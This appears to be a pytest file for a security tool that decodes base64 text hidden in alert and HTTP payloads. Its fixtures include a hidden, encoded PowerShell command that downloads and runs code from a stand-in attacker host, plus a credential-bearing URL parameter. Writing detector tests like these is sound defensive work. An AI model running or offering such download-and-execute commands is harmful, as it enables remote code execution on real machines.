"""Base64 inside payloads: found where it is text, and left alone where it is not."""

import base64

import pytest

from tests.ui.flow.made import event
from ui.flow.encodings import hidden

COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://evil.test/a')"


def encoded(words: str, encoding: str = "utf-8") -> str:
    return base64.b64encode(words.encode(encoding)).decode()


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le"])
def test_a_command_is_read_in_both_encodings(encoding: str) -> None:
    carried = event("alert", 0, payload_printable=f"powershell -enc {encoded(COMMAND, encoding)} -w hidden")
    assert hidden(carried) == [("payload_printable", COMMAND)]


def test_a_parameter_without_its_padding_is_read_too() -> None:
    run = base64.urlsafe_b64encode(b"user=root&password=hunter2??>").decode().rstrip("=")
    assert hidden(event("http", 0, http={"url": f"/x?d={run}"})) == [("http.url", "user=root&password=hunter2??>")]


@pytest.mark.parametrize(
    "words",
    ["", "GET / HTTP/1.1", "averyveryverylongwordwithoutanymeaning", "/b98c911c-e29c-396e-2990-a7441af79546/", "A" * 5_000],
)
def test_what_is_no_text_is_left_alone(words: str) -> None:
    assert hidden(event("alert", 0, payload_printable=words)) == []


def test_what_is_hidden_is_still_an_attackers_text() -> None:
    found = hidden(
        event("alert", 0, payload_printable=encoded("line one is long enough\n\u202e ![x](https://evil.test/)\x1b" + "a" * 99))
    )
    assert len(found) == 1
    assert "\u202e" not in found[0][1]
    assert "\x1b" not in found[0][1]
    assert found[0][1].count("\n") == 1


def test_only_the_first_five_are_read_and_none_twice() -> None:
    runs = " ".join(encoded(f"a secret of some length, number {number % 7}") for number in range(20))
    assert len(hidden(event("alert", 0, payload_printable=runs))) == 5
    assert hidden(event("alert", 0, payload_printable=[None, 7, {"a": 1}])) == []
